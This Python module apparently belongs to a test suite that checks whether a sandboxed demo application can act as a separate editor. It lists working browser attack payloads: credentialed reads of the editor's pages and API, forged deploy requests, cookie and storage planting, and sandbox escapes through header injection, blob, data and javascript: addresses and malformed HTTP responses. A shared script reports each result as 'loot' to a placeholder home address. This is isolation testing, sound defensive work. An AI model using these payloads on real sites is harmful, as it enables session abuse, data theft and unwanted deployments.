"""The ways in which a page of the demo application may try to act as the editor.

Each is a page or script that the echo server is asked for by a link. In its text `D` is the demo
application's address, `E` the editor's, `ORDER` a form that deploys. `tried` does something and sends home,
which is the echo server's own port, what came of it.
"""

# ruff: noqa: E501 (what an attacker writes is not wrapped)

from __future__ import annotations

import base64
import json
import re
import zlib
from dataclasses import dataclass
from urllib.parse import quote, urlsplit

from .echo import link

ORDER = "customer=advworks&environment=dev&instance_name=@VALUE@&mode=edit"
JSON_ORDER = '{customer:"advworks",env:"dev",spec:{instance_name:"@VALUE@"}}'

LIBRARY = """const D="@DEMO@",E="@EDITOR@",ORDER="@ORDER@",
say=(what,text)=>fetch("@HOME@/loot",{method:"POST",mode:"no-cors",
body:JSON.stringify({vector:"@NAME@",what,text:String(text??"").slice(0,9999)})}),
text=(a)=>a.text(),
tried=async(f)=>{try{await say("got",await Promise.race([f(),new Promise((y)=>setTimeout(y,1500))]))}
catch(e){await say("stopped",e)}say("done")};
say("ran");
"""


@dataclass(frozen=True)
class Vector:
    """One attempt. `runs` says whether its script runs at all, in the sandbox as outside."""

    name: str
    code: str = ""
    page: str = "<!DOCTYPE html><meta charset=utf-8><p>demo</p><script>@CODE@</script>"
    type: str = "text/html"
    status: int = 200
    headers: tuple[str, ...] = ()
    raw: str = ""
    runs: bool = True
    #: It leaves its page, so it sends no further reports.
    leaves: bool = False
    #: A page of the editor opens it, and is its opener.
    opened: bool = False

    def link(self, demo: str, editor: str, home: str) -> str:
        """The address of the attack, which reports to `home`."""
        if self.raw:
            answer = self._fill(self.raw.replace("@PAGE@", self.page), demo, editor, home).replace("\n", "\r\n")
            return f"{demo}?raw={quote(base64.b64encode(answer.encode()).decode(), safe='')}"
        headers = tuple(self._fill(header, demo, editor, home) for header in self.headers)
        return demo + link(self._fill(self.page, demo, editor, home), self.type, self.status, headers)

    def _fill(self, text: str, demo: str, editor: str, home: str) -> str:
        code = LIBRARY + self.code
        # Scripts that a script starts in another context.
        for name, script in {"LIB": LIBRARY + ELSEWHERE, "SW": SERVICE_WORKER}.items():
            if name in self.code:
                code = f"const {name}={json.dumps(script)};" + code
        text = text.replace("@CODE@", code)
        path = urlsplit(editor).path
        # A different one each time: an existing value would not be deployed again.
        value = f"evil-{zlib.crc32(self.name.encode()):08x}"
        names = {"DEMO": demo, "EDITOR": editor, "PATH": path, "HOME": home, "VALUE": value, "NAME": self.name}
        text = text.replace("@ORDER@", ORDER)
        return re.sub("@([A-Z]+)@", lambda name: names[name[1]], text)


READ = 'tried(()=>fetch(E+"/",{credentials:"include"}).then(text))'
POST = 'fetch(E+"/deploy",{method:"POST",credentials:"include",body:new URLSearchParams(ORDER)})'
COOKIE = 'tried(()=>document.cookie="evil=1;path=/")'
FORM = """const f=document.createElement("form");f.method="post";f.action=%s;f.target="%s";
for(const [n,v] of new URLSearchParams(ORDER)){const i=document.createElement("input");i.name=n;i.value=v;f.append(i)}
document.body.append(f);f.submit()"""
SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[@CODE@]]></script></svg>'
XHTML = '<html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[@CODE@]]></script></body></html>'
XML = '<x><script xmlns="http://www.w3.org/1999/xhtml"><![CDATA[@CODE@]]></script></x>'
ELSEWHERE = f"""{READ};{POST}"""
SERVICE_WORKER = 'onfetch=(e)=>e.respondWith(new Response("owned"))'
SCRIPT = 'D+"?x-set-response-content-type=text%2Fjavascript&header=Service-Worker-Allowed%3A%20%2F&body="'
ALLOWED = "sandbox allow-scripts allow-same-origin allow-forms allow-popups allow-top-navigation allow-modals"
INTERIM = "HTTP/1.1 103 Early Hints\nLink: </x>; rel=preload\n\n"
REAL = "HTTP/1.1 200 OK\nContent-Type: text/html\nSet-Cookie: evil=1; Path=/\nConnection: close\n\n@PAGE@"

VECTORS = [
    # Reading
    Vector("fetch a page", READ),
    Vector("fetch the API", 'tried(()=>fetch(E+"/api/pods",{credentials:"include"}).then(text))'),
    Vector(
        "XHR",
        """tried(()=>new Promise((y,n)=>{const x=new XMLHttpRequest;x.open("GET",E+"/");x.withCredentials=true;
x.onload=()=>y(x.responseText);x.onerror=n;x.send()}))""",
    ),
    Vector(
        "iframe of the editor",
        """const i=document.createElement("iframe");i.src=E+"/";
i.onload=()=>tried(()=>i.contentDocument.documentElement.outerHTML);document.body.append(i)""",
    ),
    Vector(
        "iframe without an address",
        """const i=document.createElement("iframe");document.body.append(i);
tried(()=>i.contentWindow.fetch(E+"/",{credentials:"include"}).then(text))""",
    ),
    Vector(
        "srcdoc",
        """const i=document.createElement("iframe");i.srcdoc="<script>onload=()=>parent.postMessage("
+"document.cookie||origin,'*')<\\/script>";document.body.append(i);
onmessage=(m)=>tried(()=>i.contentWindow.fetch(E+"/",{credentials:"include"}).then(text))""",
    ),
    Vector("object and embed", """document.body.innerHTML=`<object data="${E}/"></object><embed src="${E}/">`;
setTimeout(()=>tried(()=>document.querySelector("object").contentDocument.documentElement.outerHTML),300)"""),
    Vector(
        "window.open",
        """const w=open(E+"/");setTimeout(()=>tried(()=>w.document.documentElement.outerHTML),600)""",
    ),
    Vector(
        "window.open, then javascript:",
        """const w=open(E+"/");setTimeout(()=>tried(()=>{w.location="javascript:fetch('"+E
+"/').then(a=>a.text()).then(t=>opener.postMessage(t,'*'))"}),600);onmessage=(m)=>say("got",m.data)""",
    ),
    Vector("the opener's page", 'tried(()=>opener.document.documentElement.outerHTML)', opened=True),
    Vector("the opener's address", 'tried(()=>{opener.location="javascript:alert(1)"})', opened=True),
    Vector("module of the editor's", 'tried(()=>import(E+"/api/pods"))'),
    Vector("worker", f"tried(()=>new Promise((y,n)=>{{const w=new Worker({SCRIPT}+encodeURIComponent(LIB));w.onerror=n}}))"),
    Vector("worker from a blob", "tried(()=>{new Worker(URL.createObjectURL(new Blob([LIB])))})"),
    Vector("shared worker", f"tried(()=>new Promise((y,n)=>{{const w=new SharedWorker({SCRIPT}+encodeURIComponent(LIB));w.onerror=n}}))"),
    Vector(
        "service worker",
        f"tried(()=>navigator.serviceWorker.register({SCRIPT}+encodeURIComponent(SW),{{scope:E+'/'}}).then((r)=>r.scope))",
    ),
    Vector(
        "service worker of its own folder",
        f"tried(()=>navigator.serviceWorker.register({SCRIPT}+encodeURIComponent(SW)).then((r)=>r.scope))",
    ),
    # Deploying
    Vector("fetch, a form's fields", f"tried(()=>{POST}.then(text))"),
    Vector(
        "fetch without CORS",
        'tried(()=>fetch(E+"/deploy",{method:"POST",mode:"no-cors",credentials:"include",body:new URLSearchParams(ORDER)}).then(text))',
    ),
    Vector(
        "fetch, JSON",
        f"""tried(()=>fetch(E+"/api/pod",{{method:"POST",credentials:"include",headers:{{"Content-Type":"application/json"}},
body:JSON.stringify({JSON_ORDER})}}).then(text))""",
    ),
    Vector(
        "fetch, JSON said to be text",
        f"""tried(()=>fetch(E+"/api/pod",{{method:"POST",mode:"no-cors",credentials:"include",
body:JSON.stringify({JSON_ORDER})}}).then(text))""",
    ),
    Vector("sendBeacon", 'tried(()=>navigator.sendBeacon(E+"/deploy",new URLSearchParams(ORDER)))'),
    Vector("form", FORM % ('E+"/deploy"', "_self"), leaves=True),
    Vector("form into a new window", FORM % ('E+"/deploy"', "_blank"), leaves=True),
    Vector(
        "form into an iframe",
        """const w=document.createElement("iframe");w.name="w";document.body.append(w);""" + FORM % ('E+"/deploy"', "w"),
        leaves=True,
    ),
    Vector(
        "form, sent on with 307",
        FORM % ('D+"?x-set-response-status-code=307&header=Location%3A%20"+encodeURIComponent(E+"/deploy")', "_self"),
        leaves=True,
    ),
    Vector(
        "form, sent on with 308 into a new window",
        FORM % ('D+"?x-set-response-status-code=308&header=Location%3A%20"+encodeURIComponent(E+"/deploy")', "_blank"),
        leaves=True,
    ),
    Vector(
        "fetch, sent on with 307",
        """tried(()=>fetch(D+"?x-set-response-status-code=307&header=Location%3A%20"+encodeURIComponent(E+"/deploy"),
{method:"POST",mode:"no-cors",credentials:"include",body:new URLSearchParams(ORDER)}).then(text))""",
    ),
    Vector("base href", """document.head.innerHTML=`<base href="${E}/">`;""" + FORM % ('"deploy"', "_self"), leaves=True),
    Vector(
        "ping of a link",
        """const a=document.createElement("a");a.href="#";a.ping=E+"/deploy?"+ORDER;document.body.append(a);a.click();
setTimeout(()=>tried(()=>1),300)""",
    ),
    Vector("violation reports", READ, headers=("Content-Security-Policy: default-src 'none'; report-uri @EDITOR@/deploy",)),
    # Staying
    Vector("document.cookie", COOKIE),
    Vector("Set-Cookie", "tried(()=>1)", headers=("Set-Cookie: evil=1; Path=/", "Set-Cookie2: evil=2; Path=/")),
    Vector(
        "Set-Cookie of an image",
        """const i=new Image();i.onload=i.onerror=()=>tried(()=>1);i.src=D+"?header=Set-Cookie%3A%20evil%3D1%3B%20Path%3D%2F"
document.body.append(i)""",
    ),
    Vector("Set-Cookie of a redirect", page="", status=302, headers=("Set-Cookie: evil=1; Path=/", "Location: @EDITOR@/"), runs=False),
    Vector("meta cookie", 'tried(()=>document.cookie)', page='<meta http-equiv="Set-Cookie" content="evil=1;path=/"><script>@CODE@</script>'),
    Vector("localStorage", 'tried(()=>{localStorage.evil=1;sessionStorage.evil=1;return "stored"})'),
    Vector("IndexedDB", 'tried(()=>new Promise((y,n)=>{const q=indexedDB.open("evil");q.onsuccess=()=>y("stored");q.onerror=n}))'),
    Vector("caches", 'tried(()=>caches.open("evil").then(()=>"stored"))'),
    Vector("Clear-Site-Data", "tried(()=>1)", headers=('Clear-Site-Data: "cookies", "storage"',)),
    Vector("Strict-Transport-Security", "tried(()=>1)", headers=("Strict-Transport-Security: max-age=9999", "Alt-Svc: h2=\":1\"")),
    # Getting out of the sandbox
    Vector("policy of its own", READ, headers=(f"Content-Security-Policy: {ALLOWED}",)),
    Vector("two policies of its own", COOKIE, headers=(f"Content-Security-Policy: {ALLOWED}", f"content-security-policy: {ALLOWED}, {ALLOWED}")),
    Vector("policy to report only", READ, headers=(f"Content-Security-Policy-Report-Only: {ALLOWED}",)),
    Vector("policy in the page", READ, page=f'<meta http-equiv="Content-Security-Policy" content="{ALLOWED}"><script>@CODE@</script>'),
    Vector("opener policy", READ, headers=("Cross-Origin-Opener-Policy: same-origin",)),
    Vector("origin shared with other sites", READ, headers=("Access-Control-Allow-Origin: null", "Access-Control-Allow-Credentials: true")),
    Vector("blob: page", "if(location.protocol=='blob:'){" + READ + "}else{location=URL.createObjectURL(new Blob(['<script>'+LIB+'<\\/script>'],{type:'text/html'}))}", leaves=True),
    Vector("blob: page in a new window", "open(URL.createObjectURL(new Blob(['<script>'+LIB+'<\\/script>'],{type:'text/html'})))", leaves=True),
    Vector("data: page in an iframe", """const i=document.createElement("iframe");i.src="data:text/html,"+encodeURIComponent("<script>"+LIB+"<\\/script>");
document.body.append(i)""", leaves=True),
    Vector("javascript: address", 'location="javascript:tried(()=>fetch(E+\'/\',{credentials:\'include\'}).then(text))"'),
    Vector("meta refresh to javascript:", READ, page='<meta http-equiv="refresh" content="0;url=javascript:document.cookie=\'evil=1\'"><script>@CODE@</script>'),
    Vector("Refresh", "tried(()=>1)", headers=("Refresh: 0;url=@EDITOR@/refresh",)),
    Vector("meta refresh to the editor", "say('done')", page='<script>@CODE@</script><meta http-equiv="refresh" content="0;url=@EDITOR@/deploy">', leaves=True),
    Vector("X-Accel-Redirect to the editor", page="no", headers=("X-Accel-Redirect: @PATH@/",), runs=False),
    Vector("X-Accel-Redirect to nginx's pages", page="no", headers=("X-Accel-Redirect: /_e/404.html",), runs=False),
    Vector("interim answer, then another", READ, raw=INTERIM + REAL, runs=False),
    Vector("two interim answers", COOKIE, raw=INTERIM + INTERIM + REAL, runs=False),
    Vector("switched protocols, then another", READ, raw=INTERIM.replace("103 Early Hints", "101 Switching Protocols") + REAL, runs=False),
    Vector("more after 204", READ, raw="HTTP/1.1 204 No\n\n" + REAL, runs=False),
    Vector("more after 304", READ, raw="HTTP/1.1 304 No\n\n" + REAL, runs=False),
    Vector("more than its length", READ, raw="HTTP/1.1 200 OK\nContent-Length: 1\n\n1" + REAL, runs=False),
    Vector("no header at all", READ, raw="@PAGE@", runs=False),
    # Other kinds of documents and statuses
    Vector("SVG", READ, page=SVG, type="image/svg+xml"),
    Vector("XHTML", READ, page=XHTML, type="application/xhtml+xml"),
    Vector("XML", COOKIE, page=XML, type="text/xml"),
    Vector("no type", READ, type="none", runs=False),
    Vector("plain text", READ, type="text/plain", runs=False),
    Vector("unknown type", READ, type="x/y", runs=False),
    Vector("MHTML", READ, page="MIME-Version: 1.0\nContent-Type: text/html\n\n<script>@CODE@</script>", type="multipart/related", runs=False),
    Vector("one part after the other", READ, page="--x\nContent-Type: text/html\n\n<script>@CODE@</script>\n--x--", type="multipart/x-mixed-replace; boundary=x", runs=False),
    Vector("status 206", READ, status=206),
    Vector("status 404", READ, status=404),
    Vector("status 401", READ, status=401, headers=('WWW-Authenticate: Basic realm="Spec Editor"',)),
    Vector("status 500", READ, status=500),
    Vector("status 203, long policy", READ, status=203, headers=("Content-Security-Policy: " + "x " * 500,)),
]  # fmt: skip
